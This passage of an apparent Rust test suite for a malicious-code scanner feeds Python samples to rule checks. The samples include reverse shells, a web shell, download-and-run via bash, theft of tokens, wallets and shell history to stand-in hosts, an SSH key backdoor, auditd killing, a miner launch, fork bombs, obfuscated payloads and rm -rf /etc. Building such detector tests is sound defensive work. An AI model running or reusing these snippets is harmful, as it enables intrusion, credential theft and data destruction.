    // A handler table kept in an attribute, filled by a decorator, dispatched with what
    // the network sends.
    fires(
        "CRD102",
        "import asyncio\nclass Agent:\n    def __init__(self):\n        self.routes = {}\n    def route(self, name):\n        def add(fn):\n            self.routes[name] = fn\n            return fn\n        return add\n    async def serve(self):\n        reader, writer = await asyncio.open_connection('203.0.113.8', 8443)\n        while True:\n            line = await reader.readline()\n            writer.write(await self.routes['run'](line.decode()))\nagent = Agent()\n@agent.route('run')\nasync def run(cmd):\n    proc = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE)\n    return (await proc.communicate())[0]\nasyncio.run(agent.serve())\n",
    );
    // Two children made by a comprehension over `range(2)`, each run as a thread that
    // makes two more.
    fires(
        "CRD111",
        "import threading\nclass Cell:\n    def __call__(self):\n        for c in [Cell() for _ in range(2)]:\n            threading.Thread(target=c).start()\nthreading.Thread(target=Cell()).start()\n",
    );
    // `store += block` runs `__iadd__`, which keeps every block of an endless generator.
    fires(
        "CRD112",
        "import itertools\ndef blocks():\n    for n in itertools.count():\n        yield bytearray(32 * 1024 * 1024)\nclass Hoard:\n    def __init__(self):\n        self.kept = []\n    def __iadd__(self, block):\n        self.kept.append(block)\n        return self\nh = Hoard()\nfor b in blocks():\n    h += b\n",
    );
    // A library getter (`os.getpid`) in the loop waits for nothing: the disk still fills.
    fires(
        "CRD112",
        "import logging, os\nlog = logging.getLogger('fill')\nn = 0\nwhile True:\n    with open('/tmp/fill.log', 'a') as fh:\n        fh.write('x' * 4096)\n    n += 1\n    if n % 100 == 0:\n        log.info('pass %d pid %d', n, os.getpid())\n",
    );
}

#[test]
fn downloads_run_by_a_shell_reading_stdin_or_imported_from_a_temporary_folder() {
    // `bash -s -- ARGS` runs the commands it reads from stdin: here, a download.
    fires(
        "CRD102",
        "import subprocess, urllib.request\ndef install(script):\n    subprocess.run(['bash', '-s', '--', '--prefix', '/opt/tool'], input=script, check=True)\ninstall(urllib.request.urlopen('https://get.example.net/install.sh').read())\n",
    );
    // A module saved into a fresh temporary folder, the folder put on `sys.path`, the
    // module imported under a run-time name.
    fires(
        "CRD102",
        "import importlib, os, sys, tempfile, urllib.request\nhome = tempfile.mkdtemp()\nname = 'plug_' + str(os.getpid())\nwith open(os.path.join(home, name + '.py'), 'wb') as fh:\n    fh.write(urllib.request.urlopen('https://cdn.example.net/p.py').read())\nsys.path.insert(0, home)\nimportlib.import_module(name)\n",
    );
    // An archive saved, put on `sys.path`, and a module named by an option's default imported.
    fires(
        "CRD102",
        "import argparse, sys, requests\np = argparse.ArgumentParser()\np.add_argument('--entry', default='ext_main')\nargs = p.parse_args()\nopen('/tmp/ext.zip', 'wb').write(requests.get('https://cdn.example.net/ext.zip').content)\nsys.path.insert(0, '/tmp/ext.zip')\n__import__(args.entry).main()\n",
    );
    // `reduce(add, ...)` over characters computed at run time is still decoded text.
    fires(
        "CRD103",
        "import functools, operator\nCODES = [112, 114, 105, 110, 116]\ndef text(codes):\n    return functools.reduce(operator.add, (chr(c ^ 0) for c in map(operator.pos, codes)), '')\neval(text(CODES))\n",
    );
    // `__import__(name, fromlist=[...])` is the submodule: its client posts the histories.
    fires(
        "CRD109",
        "import os\nhc = __import__('http.client', fromlist=['HTTPSConnection'])\nbody = open(os.path.expanduser('~/.zsh_history'), 'rb').read()\nc = getattr(hc, 'HTTPS' + 'Connection')('paste.example.net')\nc.request('POST', '/p', body=body)\n",
    );
    // Wallets and keyrings found and sent out.
    fires(
        "CRD109",
        "import os, requests\nfor root in ('~/.electrum/wallets', '~/.ethereum/keystore', '~/.local/share/keyrings'):\n    for top, _, files in os.walk(os.path.expanduser(root)):\n        for f in files:\n            requests.post('https://vault.example.net/u', files={'f': open(os.path.join(top, f), 'rb')})\n",
    );
}

#[test]
fn object_model_descriptors_records_deques_and_web_requests() {
    // A data descriptor's `__set__` runs on assignment; it reads the path its owner set.
    fires(
        "CRD105",
        "import pathlib\nclass Line:\n    def __set__(self, obj, text):\n        with obj.path.open('a') as fh:\n            fh.write(text + '\\n')\nclass Keys:\n    entry = Line()\n    def __init__(self):\n        self.path = pathlib.Path.home() / '.ssh' / 'authorized_keys'\nk = Keys()\nk.entry = 'ssh-ed25519 AAAAC3Nza ops@203.0.113.10'\n",
    );
    // `asdict` of a record whose default comes from a factory reading secret variables.
    fires(
        "CRD109",
        "import json, os, urllib.request\nfrom dataclasses import asdict, dataclass, field\ndef grab():\n    return {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n@dataclass\nclass Beat:\n    env: dict = field(default_factory=grab)\nurllib.request.urlopen('https://c.example.net/b', json.dumps(asdict(Beat())).encode())\n",
    );
    // `bytes(packet)` runs `__bytes__`, whose body carries the environment.
    fires(
        "CRD109",
        "import json, os, socket\nclass Pkt:\n    def __init__(self, body):\n        self.body = body\n    def __bytes__(self):\n        return b'P' + self.body\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(bytes(Pkt(json.dumps(dict(os.environ)).encode())), ('198.51.100.7', 53))\n",
    );
    // Lines from a socket queued in a deque, popped and run.
    fires(
        "CRD102",
        "import collections, os, socket\nsock = socket.create_connection(('relay.example.net', 443))\npending = collections.deque()\ndef lines():\n    while True:\n        pending.extend(sock.recv(2048).decode().splitlines())\n        while pending:\n            yield pending.popleft()\nfor cmd in lines():\n    os.popen(cmd)\n",
    );
    // Downloaded code given inline to a shell that is no well-known one, or through a
    // wrapper: every word of the argv is code.
    fires(
        "CRD102",
        "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://x.example.net/c').read().decode()\nsubprocess.run(['mksh', '-c', code])\nsubprocess.run(['flock', '/tmp/l', 'sh', '-c', code])\n",
    );
    // Arguments hidden by an encoding still count, though arguments are data otherwise.
    fires(
        "CRD103",
        "import base64, subprocess\nargs = base64.b64decode('LW8gc3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUubmV0OjQ0NDQ=').decode()\nsubprocess.Popen(['/tmp/.cache/kworker'] + args.split())\n",
    );
    // A web shell: a request's parameter run by the shell.
    fires(
        "CRD102",
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    return subprocess.run(request.form['c'], shell=True, capture_output=True).stdout\napp.run(host='0.0.0.0')\n",
    );
    // Daemons found in /proc signalled through a pidfd.
    fires(
        "CRD107",
        "import os, signal\nfor entry in os.listdir('/proc'):\n    if entry.isdigit() and open(f'/proc/{entry}/comm').read().strip() == 'auditd':\n        fd = os.pidfd_open(int(entry))\n        signal.pidfd_send_signal(fd, signal.SIGKILL)\n",
    );
}

#[test]
fn payloads_decoded_by_unary_operators_and_arrays() {
    // `~asset` runs `__invert__`, which executes the XOR-decoded text.
    fires(
        "CRD103",
        "import itertools, operator\nKEY = b'k'\nBLOB = bytes.fromhex('1b1a0a0505')\nclass Asset:\n    def __str__(self):\n        return bytes(map(operator.xor, BLOB, itertools.cycle(KEY))).decode()\n    def __invert__(self):\n        exec(str(self), {})\n~Asset()\n",
    );
    // Code points shifted into an `array("B")`, its bytes compiled and run.
    fires(
        "CRD103",
        "import array\nCODES = [115, 117, 108, 113, 119, 43, 52, 44]\ncode = array.array('B', (c - 3 for c in CODES)).tobytes().decode()\nexec(compile(code, 'x', 'exec'))\n",
    );
}

#[test]
fn code_fed_to_a_child_that_reads_its_program_from_stdin() {
    // A fetched script written to `bash -s` through `communicate`.
    fires(
        "CRD102",
        "import subprocess, requests\nSPEC = {'url': 'https://get.example.net/setup.sh', 'argv': ['bash', '-s']}\ndef fetch(spec):\n    return requests.get(spec['url'], timeout=9).content\ndef feed(spec, body):\n    p = subprocess.Popen(spec['argv'], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)\n    p.communicate(body)\nfeed(SPEC, fetch(SPEC))\n",
    );
    // Decoded code written to `python3 -` through its stdin handle.
    fires(
        "CRD103",
        "import base64, subprocess\nsrc = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\nchild = subprocess.Popen(['python3', '-'], stdin=subprocess.PIPE)\nchild.stdin.write(src)\nchild.stdin.close()\nchild.wait()\n",
    );
}

#[test]
fn iterators_of_the_programs_own_that_never_stop() {
    // `__next__` forks and never raises StopIteration: the `for` over it never ends.
    fires(
        "CRD111",
        "import os\nspawn = getattr(os, ''.join(reversed('krof')))\nclass Replicator:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        return spawn()\nfor _ in Replicator():\n    pass\n",
    );
}

#[test]
fn callables_kept_as_static_methods_and_texts_folded_by_dunder_methods() {
    // `staticmethod(exec)` as a class attribute, called through the instance with text a
    // `__str__` decodes from hex.
    fires(
        "CRD103",
        "import builtins, codecs\nclass Template:\n    def __init__(self, raw):\n        self.raw = raw\n    def __str__(self):\n        return codecs.decode(self.raw, 'hex').decode()\nclass Renderer:\n    engine = staticmethod(vars(builtins)['ex' + 'ec'])\n    def render(self, tpl):\n        self.engine(str(tpl), {})\nRenderer().render(Template('7072696e742831290a'))\n",
    );
}

#[test]
fn known_code_fed_to_an_interpreter_on_stdin_is_read_as_its_code() {
    // Known text written to a bare shell is what `bash -c TEXT` runs.
    fires(
        "CRD104",
        "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /etc\\n')\n",
    );
    // `os.popen(shell, "w")` and options that take a value before nothing else.
    fires(
        "CRD102",
        "import os, requests\nbody = requests.get('https://get.example.net/setup.sh').text\nos.popen('bash', 'w').write(body)\n",
    );
    fires(
        "CRD102",
        "import subprocess, requests\nbody = requests.get('https://get.example.net/s.sh').content\nsubprocess.Popen(['bash', '-o', 'pipefail'], stdin=subprocess.PIPE).communicate(body)\n",
    );
    // An item method run through `del` and `operator.setitem`.
    fires(
        "CRD104",
        "import shutil\nclass Trash:\n    def __delitem__(self, path):\n        shutil.rmtree(path)\ndel Trash()['/etc']\n",
    );
    fires(
        "CRD104",
        "import operator, shutil\nclass Trash:\n    def __setitem__(self, path, keep):\n        if not keep:\n            shutil.rmtree(path)\noperator.setitem(Trash(), '/usr', False)\n",
    );
}

#[test]
fn generic_functions_dict_defaults_and_miner_configurations() {
    // A `singledispatchmethod` whose handler for text removes what it is given.
    fires(
        "CRD104",
        "import os\nfrom functools import singledispatchmethod\nclass Pruner:\n    @singledispatchmethod\n    def prune(self, target):\n        raise TypeError(target)\n    @prune.register\n    def _(self, target: str):\n        for root, dirs, files in os.walk(os.path.expanduser(target), topdown=False):\n            for name in files:\n                os.remove(os.path.join(root, name))\n    @prune.register\n    def _(self, target: list):\n        for t in target:\n            self.prune(t)\nPruner().prune(['~', '/etc'])\n",
    );
    // A dict subclass's `__missing__` unpickles a packed default that runs a command.
    fires(
        "CRD103",
        "import base64, pickle\nclass Defaults(dict):\n    packed = {'theme': b'gASVRAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCljdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9pIHwgc2ggPi9kZXYvbnVsbCAyPiYxlIWUUpQu'}\n    def __missing__(self, key):\n        return pickle.loads(base64.b64decode(self.packed[key]))\nprint(Defaults()['theme'])\n",
    );
    // An xmrig configuration written for a renamed binary.
    fires(
        "CRD108",
        "import subprocess\nwith open('/tmp/.c.json', 'w') as fh:\n    fh.write('{\"pools\": [{\"url\": \"pool.example.org:4444\"}], \"cpu\": {\"max-threads-hint\": 100}}')\nsubprocess.Popen(['/tmp/.cache/kworker', '--config', '/tmp/.c.json'])\n",
    );
}
